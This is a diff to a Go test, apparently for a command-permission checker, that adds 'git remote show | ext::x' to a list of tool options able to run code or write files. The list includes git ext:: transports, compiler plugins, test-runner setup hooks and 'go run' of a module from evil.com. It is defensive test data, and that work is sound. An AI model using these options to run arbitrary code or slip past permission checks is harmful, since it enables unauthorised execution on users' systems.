@@ -27,7 +27,7 @@ func TestOptionsThatRun(t *testing.T) {
 		"poetry run | sh -c x", "uv run | x", "bundle exec | x", "docker run | x", "docker exec | x", "go run | evil.com/x@latest", "npm exec | x", "hatch | env run x",
 		"git | remote-ext origin x", "git | merge-index x -a", "git | submodule--helper foreach x", "git | difftool--helper", "git merge | -s x",
 		"git | credential-store --file=x", "git | checkout-index --prefix=x", "git apply | --unsafe-paths", "git | interpret-trailers --in-place x",
-		"git fetch | ext::x", "git ls-remote | -u x y", "git config | core.pager x", "git -c | x=y log",
+		"git fetch | ext::x", "git remote show | ext::x", "git ls-remote | -u x y", "git config | core.pager x", "git -c | x=y log",
 		"jest | --global-setup=x", "jest | --testSequencer=x", "vitest | --coverage.customProviderModule=x", "mocha | -u x", "jest | --outputFile=x",
 		"terraform | plan -out=x", "terraform | --chdir=x plan", "gcc | -Wl,-plugin,x y", "gcc | -Xlinker x", "gcc | --output=x y", "gcc | -MF x y", "gcc | @x", "gcc | -fplugin=x",
 		"openssl | rand --out x 5", "ip | net exec x y", "ip | -n x netns", "pytest | --junitxml=x", "pytest | @x", "tsc | --OUTDIR x", "tsc | -outFile x y",
